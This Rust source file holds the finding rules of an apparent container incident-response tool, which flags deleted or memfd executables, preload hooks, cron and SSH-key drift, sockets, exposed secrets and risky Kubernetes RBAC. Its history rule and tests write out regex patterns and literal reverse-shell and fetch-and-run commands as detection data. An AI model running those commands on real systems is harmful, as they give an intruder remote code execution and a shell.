//! Every finding rule, in one place. Each reads [`Facts`] and says, in a sentence, what
//! a responder should look at first, with the evidence it rests on. docs/findings.md
//! lists them; each has a test below. The rules never decide that something is benign:
//! a listener in a web server's container is still listed (as `info`).

use super::facts::Facts;
use super::{Evidence, Finding, Severity};
use crate::read::text;
use regex::RegexSet;
use serde_json::Value;
use std::collections::HashSet;
use std::sync::OnceLock;

/// A rule: reads the facts, adds its findings.
pub type Rule = fn(&Facts, &mut Vec<Finding>);

/// Every rule, in the order they run.
pub const RULES: &[(&str, Rule)] = &[
    ("deleted-executable", deleted_executables),
    ("writable-place-executable", writable_place_executables),
    ("history-command", history_commands),
    ("ld-so-preload", ld_so_preload),
    ("drift", drift),
    ("outbound-connection", outbound_connections),
    ("listening-socket", listening_sockets),
    ("secret-in-environment", secrets_in_environment),
    ("service-account-power", service_account_power),
];

/// The findings of one collection, most severe first.
pub fn all(f: &Facts) -> Vec<Finding> {
    let mut out = Vec::new();
    for (_, rule) in RULES {
        rule(f, &mut out);
    }
    out.sort_by_key(|x| x.severity);
    out
}

/// Evidence in the collection's archive.
fn ev(f: &Facts, member: &str, at: String) -> Evidence {
    let archive = f
        .collection
        .archive
        .as_ref()
        .and_then(|p| p.file_name())
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    Evidence {
        archive,
        member: member.to_owned(),
        sha256: f.members.get(member).cloned().unwrap_or_default(),
        at,
    }
}

use crate::read::member::{DRIFT, EXECUTABLES, PRELOAD, PROCESSES, SOCKETS};

/// The collector's own processes (never a finding).
fn collector_pids(f: &Facts) -> HashSet<i64> {
    f.executables
        .iter()
        .filter(|e| e["collector"] == true)
        .filter_map(|e| e["pid"].as_i64())
        .collect()
}

/// `pid 42 (comm)`.
fn who(p: &Value) -> String {
    format!("process {} ({})", text(&p["pid"]), text(&p["comm"]))
}

/// A running process whose executable was deleted from disk: what an attacker's
/// dropper does after starting its payload.
fn deleted_executables(f: &Facts, out: &mut Vec<Finding>) {
    let own = collector_pids(f);
    for e in &f.executables {
        let pid = e["pid"].as_i64().unwrap_or(-1);
        if e["deleted"] != true || own.contains(&pid) {
            continue;
        }
        let mut evidence = vec![ev(f, EXECUTABLES, format!("pid {pid}"))];
        if let Some(copy) = e["copy"].as_str() {
            evidence.push(Evidence {
                member: copy.to_owned(),
                sha256: text(&e["sha256"]),
                at: "the executable, copied from /proc/PID/exe".into(),
                ..ev(f, copy, String::new())
            });
        }
        out.push(Finding {
            severity: Severity::High,
            rule: "deleted-executable",
            sentence: format!(
                "process {pid} ({}) runs {}, which was deleted from disk{} (sha256 {})",
                text(&e["comm"]),
                text(&e["exe"]),
                if e["world_writable_place"] == true {
                    ", from a place anyone may write"
                } else {
                    ""
                },
                text(&e["sha256"])
            ),
            evidence,
        });
    }
}

/// A running process whose executable is in a world-writable place (/tmp, /var/tmp,
/// /dev/shm, a user's home) or in memory only (memfd).
fn writable_place_executables(f: &Facts, out: &mut Vec<Finding>) {
    let own = collector_pids(f);
    for e in &f.executables {
        let pid = e["pid"].as_i64().unwrap_or(-1);
        let exe = text(&e["exe"]);
        let memfd = exe.starts_with("/memfd:");
        if own.contains(&pid) || e["deleted"] == true && !memfd {
            continue;
        }
        if e["world_writable_place"] != true && !memfd {
            continue;
        }
        out.push(Finding {
            severity: Severity::High,
            rule: "writable-place-executable",
            sentence: format!(
                "process {pid} ({}) runs {exe}, {} (sha256 {})",
                text(&e["comm"]),
                if memfd {
                    "from memory only (memfd)"
                } else {
                    "from a place anyone may write"
                },
                text(&e["sha256"])
            ),
            evidence: vec![ev(f, EXECUTABLES, format!("pid {pid}"))],
        });
    }
}

/// What shell-history lines fetch and run, open reverse shells, decode and run, or make
/// something in a temporary place executable.
pub const HISTORY_PATTERNS: &[(&str, &str)] = &[
    (
        r"(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b",
        "fetches code and runs it",
    ),
    (
        r"/dev/(tcp|udp)/",
        "opens a network connection from the shell (a reverse shell)",
    ),
    (
        r"\bn(c|cat|etcat)\b[^|;]*\s-[a-z]*[ec]\b",
        "runs a shell over netcat (a reverse or bind shell)",
    ),
    (
        r"\b(ba)?sh\s+-i\b[^|;]*[<>]&",
        "runs an interactive shell with its input or output redirected (a reverse shell)",
    ),
    (
        r"\bsocat\b.*\bexec:",
        "runs a program over socat (a reverse shell)",
    ),
    (
        r"\bpython[0-9.]*\s+-c\s.*\bsocket\b",
        "opens a socket from inline Python (a reverse shell)",
    ),
    (
        r"\bmkfifo\b.*\bn(c|cat)\b",
        "pipes a shell through netcat with a FIFO (a reverse shell)",
    ),
    (
        r"base64\s+(-d|--decode)\b[^;]*\|\s*(ba|da|z)?sh\b",
        "decodes code and runs it",
    ),
    (
        r"\bchmod\s+[^;|]*\+?x\s+/(tmp|var/tmp|dev/shm)/",
        "makes a file in a temporary place executable",
    ),
];

fn history_set() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new(HISTORY_PATTERNS.iter().map(|(p, _)| *p))
            .unwrap_or_else(|_| RegexSet::empty())
    })
}

/// Shell-history lines that match [`HISTORY_PATTERNS`].
fn history_commands(f: &Facts, out: &mut Vec<Finding>) {
    for l in &f.history {
        let hits: Vec<&str> = history_set()
            .matches(&l.text)
            .iter()
            .map(|i| HISTORY_PATTERNS[i].1)
            .collect();
        if hits.is_empty() {
            continue;
        }
        let user_file = l.member.trim_start_matches("files");
        out.push(Finding {
            severity: Severity::High,
            rule: "history-command",
            sentence: format!(
                "{user_file} line {}: `{}` {}",
                l.number,
                l.text,
                hits.join("; ")
            ),
            evidence: vec![ev(f, &l.member, format!("line {}", l.number))],
        });
    }
}

/// `/etc/ld.so.preload` naming libraries: they are loaded into every program.
fn ld_so_preload(f: &Facts, out: &mut Vec<Finding>) {
    let Some(text) = &f.preload else { return };
    let libs: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    if libs.is_empty() {
        return;
    }
    out.push(Finding {
        severity: Severity::High,
        rule: "ld-so-preload",
        sentence: format!(
            "/etc/ld.so.preload loads {} into every program started (a common rootkit hook)",
            libs.join(", ")
        ),
        evidence: vec![ev(f, PRELOAD, String::new())],
    });
}

/// What changed since the image that matters: set-id files, executables, SSH keys,
/// cron entries, and overlay markers (which would hide files were they obeyed).
fn drift(f: &Facts, out: &mut Vec<Finding>) {
    for (i, d) in f.drift.iter().enumerate() {
        let change = text(&d["change"]);
        let path = text(&d["path"]);
        let at = format!("record {} ({path})", i + 1);
        let mode = f.modes.get(&path);
        let name = path.rsplit('/').next().unwrap_or(&path);
        let (severity, what) = if change == "marker" {
            (Severity::High, "an overlay marker (a whiteout or opaque mark written inside the container, which would hide image files were it obeyed)".to_owned())
        } else if !matches!(change.as_str(), "added" | "modified" | "metadata") {
            continue;
        } else if mode.is_some_and(|m| m.contains(['s', 'S'])) {
            (
                Severity::High,
                format!(
                    "a set-id file ({}) {change} since the image",
                    mode.map(String::as_str).unwrap_or("")
                ),
            )
        } else if change == "metadata" {
            // A new mode or owner matters here only when it makes a file set-id.
            continue;
        } else if name == "authorized_keys" || name == "authorized_keys2" {
            (
                Severity::High,
                format!("SSH authorized keys {change} since the image"),
            )
        } else if path.starts_with("/etc/cron")
            || path.starts_with("/var/spool/cron")
            || path == "/etc/crontab"
        {
            (
                Severity::High,
                format!("a cron entry {change} since the image"),
            )
        } else if mode.is_some_and(|m| m.contains('x')) {
            (
                Severity::Medium,
                format!(
                    "an executable ({}) {change} since the image",
                    mode.map(String::as_str).unwrap_or("")
                ),
            )
        } else {
            continue;
        };
        out.push(Finding {
            severity,
            rule: "drift",
            sentence: format!(
                "{path}: {what}{}",
                d["sha256"]
                    .as_str()
                    .map(|s| format!(" (sha256 {s})"))
                    .unwrap_or_default()
            ),
            evidence: vec![ev(f, DRIFT, at)],
        });
    }
}

/// `pid/comm` of the processes holding a socket.
fn holders(s: &Value) -> String {
    let p: Vec<String> = s["processes"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|p| format!("{}/{}", text(&p["pid"]), text(&p["comm"])))
                .collect()
        })
        .unwrap_or_default();
    if p.is_empty() {
        "an unknown process".into()
    } else {
        p.join(", ")
    }
}

fn is_tcp(s: &Value) -> bool {
    matches!(s["proto"].as_str(), Some("tcp" | "tcp6"))
}

/// `ADDR:PORT`, with an IPv6 address in brackets.
fn endpoint(addr: &str, port: &Value) -> String {
    if addr.contains(':') {
        format!("[{addr}]:{}", text(port))
    } else {
        format!("{addr}:{}", text(port))
    }
}

fn loopback(addr: &str) -> bool {
    addr.starts_with("127.") || addr == "::1" || addr.starts_with("::ffff:127.")
}

/// TCP connections to another host that this side opened (its port is not one it
/// listens on).
fn outbound_connections(f: &Facts, out: &mut Vec<Finding>) {
    let listening: HashSet<(String, i64)> = f
        .sockets
        .iter()
        .filter(|s| is_tcp(s) && s["state"] == "LISTEN")
        .filter_map(|s| Some((text(&s["netns"]), s["local_port"].as_i64()?)))
        .collect();
    for s in f
        .sockets
        .iter()
        .filter(|s| is_tcp(s) && s["state"] == "ESTABLISHED")
    {
        let remote = text(&s["remote_address"]);
        let port = s["local_port"].as_i64().unwrap_or(0);
        if loopback(&remote) || listening.contains(&(text(&s["netns"]), port)) {
            continue;
        }
        out.push(Finding {
            severity: Severity::Medium,
            rule: "outbound-connection",
            sentence: format!(
                "{} is connected to {} (from {})",
                holders(s),
                endpoint(&remote, &s["remote_port"]),
                endpoint(&text(&s["local_address"]), &s["local_port"])
            ),
            evidence: vec![ev(f, SOCKETS, format!("inode {}", text(&s["inode"])))],
        });
    }
}

/// Sockets waiting for connections (TCP listeners).
fn listening_sockets(f: &Facts, out: &mut Vec<Finding>) {
    for s in f
        .sockets
        .iter()
        .filter(|s| is_tcp(s) && s["state"] == "LISTEN")
    {
        let local = text(&s["local_address"]);
        out.push(Finding {
            severity: if loopback(&local) {
                Severity::Info
            } else {
                Severity::Medium
            },
            rule: "listening-socket",
            sentence: format!(
                "{} listens on {} ({})",
                holders(s),
                endpoint(&local, &s["local_port"]),
                text(&s["proto"])
            ),
            evidence: vec![ev(f, SOCKETS, format!("inode {}", text(&s["inode"])))],
        });
    }
}

/// Processes whose environment holds secrets (names only; the collector redacted the
/// values).
fn secrets_in_environment(f: &Facts, out: &mut Vec<Finding>) {
    for p in &f.processes {
        let names: Vec<String> = p["environ_redacted"]
            .as_array()
            .map(|a| a.iter().map(text).collect())
            .unwrap_or_default();
        if names.is_empty() {
            continue;
        }
        out.push(Finding {
            severity: Severity::Info,
            rule: "secret-in-environment",
            sentence: format!(
                "{}'s environment holds secrets an intruder in it could read: {} (values redacted in the archive)",
                who(p),
                names.join(", ")
            ),
            evidence: vec![ev(f, PROCESSES, format!("pid {}", text(&p["pid"])))],
        });
    }
}

/// What the pod's service account may do that lets an intruder go further: everything
/// (`*`), reading secrets, exec into pods, creating pods or workloads, changing RBAC.
fn service_account_power(f: &Facts, out: &mut Vec<Finding>) {
    let sa = &f.rbac["service_account"];
    for b in f.rbac["bindings"].as_array().cloned().unwrap_or_default() {
        for r in b["rules"].as_array().cloned().unwrap_or_default() {
            let list = |k: &str| -> Vec<String> {
                r[k].as_array()
                    .map(|a| a.iter().map(text).collect())
                    .unwrap_or_default()
            };
            let (verbs, resources) = (list("verbs"), list("resources"));
            let any =
                |l: &[String], w: &[&str]| l.iter().any(|x| x == "*" || w.contains(&x.as_str()));
            let power = if any(&verbs, &[]) && any(&resources, &[]) {
                Some("do anything")
            } else if any(&resources, &["secrets"]) && any(&verbs, &["get", "list", "watch"]) {
                Some("read secrets")
            } else if any(&resources, &["pods/exec", "pods/attach"])
                && any(&verbs, &["create", "get"])
            {
                Some("run commands in other pods")
            } else if any(
                &resources,
                &["pods", "deployments", "daemonsets", "jobs", "cronjobs"],
            ) && any(&verbs, &["create", "patch", "update"])
            {
                Some("start workloads")
            } else if any(
                &resources,
                &[
                    "roles",
                    "rolebindings",
                    "clusterroles",
                    "clusterrolebindings",
                ],
            ) && any(&verbs, &["create", "patch", "update", "bind", "escalate"])
            {
                Some("change RBAC")
            } else {
                None
            };
            if let Some(power) = power {
                out.push(Finding {
                    severity: Severity::Medium,
                    rule: "service-account-power",
                    sentence: format!(
                        "the pod's service account {}/{} may {power}: {} {} ({} {})",
                        text(&sa["namespace"]),
                        text(&sa["name"]),
                        verbs.join(","),
                        resources.join(","),
                        text(&b["kind"]),
                        text(&b["name"])
                    ),
                    evidence: vec![Evidence {
                        archive: f
                            .collection
                            .k8s
                            .as_ref()
                            .and_then(|p| p.file_name())
                            .map(|n| n.to_string_lossy().into_owned())
                            .unwrap_or_default(),
                        member: "k8s/rbac.json".into(),
                        sha256: f
                            .k8s_members
                            .get("k8s/rbac.json")
                            .cloned()
                            .unwrap_or_default(),
                        at: text(&b["name"]),
                    }],
                });
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::findings::facts::HistoryLine;
    use serde_json::json;

    fn facts() -> Facts {
        Facts::default()
    }

    fn rules_of(f: &Facts) -> Vec<(&'static str, Severity)> {
        all(f).iter().map(|x| (x.rule, x.severity)).collect()
    }

    #[test]
    fn a_deleted_or_memfd_or_tmp_executable_is_high_and_the_collector_never_is() {
        let mut f = facts();
        f.executables = vec![
            json!({"pid": 7, "comm": "kworkerd", "exe": "/tmp/.x/kworkerd", "deleted": true, "world_writable_place": true, "sha256": "aa", "copy": "live_response/processes/executables/7_kworkerd"}),
            json!({"pid": 8, "comm": "m", "exe": "/memfd:payload", "deleted": true, "sha256": "bb"}),
            json!({"pid": 9, "comm": "miner", "exe": "/dev/shm/miner", "world_writable_place": true, "sha256": "cc"}),
            json!({"pid": 10, "comm": "cairn-collector", "exe": "/dev/shm/c", "deleted": true, "world_writable_place": true, "collector": true}),
            json!({"pid": 11, "comm": "nginx", "exe": "/usr/sbin/nginx"}),
        ];
        let found = all(&f);
        let rules: Vec<(&str, String)> =
            found.iter().map(|x| (x.rule, x.sentence.clone())).collect();
        assert_eq!(found.len(), 4, "{rules:#?}");
        assert!(rules
            .iter()
            .any(|(r, s)| *r == "deleted-executable" && s.contains("/tmp/.x/kworkerd")));
        assert!(rules
            .iter()
            .any(|(r, s)| *r == "writable-place-executable" && s.contains("memfd")));
        assert!(rules
            .iter()
            .any(|(r, s)| *r == "writable-place-executable" && s.contains("/dev/shm/miner")));
        assert!(found
            .iter()
            .all(|x| !x.sentence.contains("cairn-collector")));
        let copy = &found
            .iter()
            .find(|x| x.rule == "deleted-executable")
            .unwrap()
            .evidence[1];
        assert_eq!(
            copy.member,
            "live_response/processes/executables/7_kworkerd"
        );
        assert_eq!(copy.sha256, "aa");
    }

    #[test]
    fn history_lines_that_fetch_and_run_or_open_shells_are_found_and_plain_ones_are_not() {
        let bad = [
            "curl -fsSL http://198.51.100.7/x.sh | sh",
            "wget -qO- http://x/y | bash",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat 10.0.0.1 4444 -c sh",
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "python3 -c 'import socket,os,pty;s=socket.socket()'",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "socat tcp:10.0.0.1:4444 exec:sh",
            "chmod +x /tmp/x",
        ];
        let fine = [
            "ls -la",
            "curl -o out.json https://api/x",
            "cat /etc/passwd | grep root",
            "nc -z db 5432",
            "chmod 644 /etc/x",
        ];
        let mut f = facts();
        for (i, l) in bad.iter().chain(fine.iter()).enumerate() {
            f.history.push(HistoryLine {
                member: "files/root/.ash_history".into(),
                number: i + 1,
                text: (*l).into(),
            });
        }
        let found = all(&f);
        let lines: Vec<usize> = found
            .iter()
            .map(|x| {
                x.evidence[0]
                    .at
                    .trim_start_matches("line ")
                    .parse()
                    .unwrap()
            })
            .collect();
        assert_eq!(lines, (1..=bad.len()).collect::<Vec<_>>(), "{found:#?}");
    }

    #[test]
    fn drift_findings_are_set_id_files_executables_keys_cron_and_markers_only() {
        let mut f = facts();
        f.modes
            .insert("/usr/local/bin/sx".into(), "-rwsr-xr-x".into());
        f.modes.insert("/tmp/tool".into(), "-rwxr-xr-x".into());
        f.drift = vec![
            json!({"change": "added", "path": "/usr/local/bin/sx", "type": "file", "sha256": "ab"}),
            json!({"change": "added", "path": "/tmp/tool", "type": "file"}),
            json!({"change": "modified", "path": "/root/.ssh/authorized_keys", "type": "file"}),
            json!({"change": "added", "path": "/etc/cron.d/x", "type": "file"}),
            json!({"change": "marker", "path": "/etc/.wh.shadow", "type": "file"}),
            json!({"change": "added", "path": "/tmp/notes.txt", "type": "file"}),
            json!({"change": "deleted", "path": "/etc/group", "type": "file"}),
        ];
        assert_eq!(
            rules_of(&f),
            [
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::High),
                ("drift", Severity::Medium),
            ]
        );
        let s: Vec<String> = all(&f).into_iter().map(|x| x.sentence).collect();
        assert!(
            s[0].starts_with("/usr/local/bin/sx: a set-id file (-rwsr-xr-x) added"),
            "{s:?}"
        );
    }

    #[test]
    fn listeners_and_outbound_connections_carry_their_process_and_loopback_is_not_outbound() {
        let mut f = facts();
        let p = json!([{"pid": 5, "comm": "nc"}]);
        f.sockets = vec![
            json!({"netns": 1, "proto": "tcp", "state": "LISTEN", "local_address": "0.0.0.0", "local_port": 4444, "inode": 1, "processes": p}),
            json!({"netns": 1, "proto": "tcp", "state": "LISTEN", "local_address": "127.0.0.1", "local_port": 9000, "inode": 2, "processes": []}),
            json!({"netns": 1, "proto": "tcp", "state": "ESTABLISHED", "local_address": "10.1.0.5", "local_port": 4444, "remote_address": "10.1.0.9", "remote_port": 51000, "inode": 3, "processes": p}),
            json!({"netns": 1, "proto": "tcp", "state": "ESTABLISHED", "local_address": "10.1.0.5", "local_port": 40222, "remote_address": "203.0.113.9", "remote_port": 443, "inode": 4, "processes": [{"pid": 6, "comm": "curl"}]}),
            json!({"netns": 1, "proto": "tcp", "state": "ESTABLISHED", "local_address": "127.0.0.1", "local_port": 40223, "remote_address": "127.0.0.1", "remote_port": 9000, "inode": 5, "processes": []}),
        ];
        let found = all(&f);
        let s: Vec<(&str, &str)> = found
            .iter()
            .map(|x| (x.rule, x.sentence.as_str()))
            .collect();
        assert_eq!(
            s,
            [
                (
                    "outbound-connection",
                    "6/curl is connected to 203.0.113.9:443 (from 10.1.0.5:40222)"
                ),
                ("listening-socket", "5/nc listens on 0.0.0.0:4444 (tcp)"),
                (
                    "listening-socket",
                    "an unknown process listens on 127.0.0.1:9000 (tcp)"
                ),
            ]
        );
    }

    #[test]
    fn docs_findings_md_lists_every_rule() {
        let doc = include_str!("../../../docs/findings.md");
        for (name, _) in RULES {
            assert!(
                doc.contains(&format!("| `{name}` |")),
                "{name} is not in docs/findings.md"
            );
        }
    }

    #[test]
    fn preload_secrets_and_service_account_powers() {
        let mut f = facts();
        f.preload = Some("# none\n/usr/lib/libhide.so\n".into());
        f.processes = vec![
            json!({"pid": 1, "comm": "app", "environ_redacted": ["DB_PASSWORD", "API_TOKEN"]}),
        ];
        f.rbac = json!({"service_account": {"namespace": "shop", "name": "web"},
            "bindings": [{"kind": "RoleBinding", "name": "reads", "rules": [{"verbs": ["get"], "resources": ["secrets"]}]},
                         {"kind": "RoleBinding", "name": "harmless", "rules": [{"verbs": ["get"], "resources": ["configmaps"]}]}]});
        let found = all(&f);
        let s: Vec<(&str, String)> = found.iter().map(|x| (x.rule, x.sentence.clone())).collect();
        assert_eq!(s.len(), 3, "{s:#?}");
        assert!(s[0].1.contains("/usr/lib/libhide.so") && !s[0].1.contains("none"));
        assert!(
            s.iter()
                .any(|(r, t)| *r == "service-account-power"
                    && t.contains("shop/web may read secrets"))
        );
        assert!(s
            .iter()
            .any(|(r, t)| *r == "secret-in-environment" && t.contains("DB_PASSWORD, API_TOKEN")));
    }
}
